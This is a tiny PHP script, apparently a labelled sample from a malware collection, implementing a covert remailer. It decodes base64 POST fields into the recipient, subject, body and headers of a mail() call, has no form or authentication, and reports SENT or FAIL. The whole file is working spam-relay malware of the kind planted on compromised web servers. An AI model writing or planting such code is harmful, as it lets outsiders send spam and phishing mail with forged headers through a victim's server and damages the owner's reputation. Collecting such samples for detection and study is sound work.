<?php
// Family: mailer/remailer
// Style: honeypot remailer with base64 fields
// Trait: every mail() argument decoded from a base64 POST field, no form, prints a short status
if (isset($_POST['t'])) {
	$r = mail(base64_decode($_POST['t']), base64_decode($_POST['s']), base64_decode($_POST['b']), base64_decode($_POST['h']));
	echo $r ? 'SENT' : 'FAIL';
}
